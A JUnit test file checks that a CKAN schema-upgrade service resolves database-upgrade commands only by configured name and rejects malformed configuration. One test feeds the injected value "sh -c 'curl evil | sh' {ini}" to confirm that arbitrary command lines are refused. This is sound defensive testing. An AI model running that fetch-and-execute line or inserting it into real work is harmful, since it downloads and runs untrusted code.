package org.ckanmigrate.schema.upgrade;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Map;
import org.junit.jupiter.api.Test;

class UpgradeCommandsTest {

  @Test
  void builtInsAndConfiguredCommandsAreFoundByName() {
    UpgradeCommands commands =
        UpgradeCommands.of(Map.of("ckan210", "/opt/ckan/bin/ckan -c {ini} db upgrade"));
    assertThat(commands.template("ckan")).isEqualTo(UpgradeCommand.CKAN_CLI);
    assertThat(commands.template("paster")).isEqualTo(UpgradeCommand.PASTER);
    assertThat(commands.template("ckan210")).isEqualTo("/opt/ckan/bin/ckan -c {ini} db upgrade");
    assertThat(commands.names()).containsExactly("ckan", "ckan210", "paster");
  }

  @Test
  void aCommandLineInTheSpecIsRefusedNamingTheKnownCommands() {
    UpgradeCommands commands = UpgradeCommands.builtIn();
    assertThatThrownBy(() -> commands.template("sh -c 'curl evil | sh' {ini}"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("is not an upgrade command of this schema-service")
        .hasMessageContaining("known: ckan, paster")
        .hasMessageContaining("ckan-migrate.schema.upgrade-commands.NAME");
    assertThatThrownBy(() -> commands.template("ckan211"))
        .hasMessageContaining("ckan-migrate.schema.upgrade-commands.ckan211=");
  }

  @Test
  void badConfigurationFailsAtStartUp() {
    assertThatThrownBy(() -> UpgradeCommands.of(Map.of("x", "ckan db upgrade")))
        .hasMessageContaining("upgrade-commands.x must contain {ini}");
    assertThatThrownBy(() -> UpgradeCommands.of(Map.of("bad name", "ckan -c {ini}")))
        .hasMessageContaining("not a usable name");
    assertThatThrownBy(() -> UpgradeCommands.of(Map.of("q", "ckan 'x -c {ini}")))
        .hasMessageContaining("Unbalanced quote");
  }
}
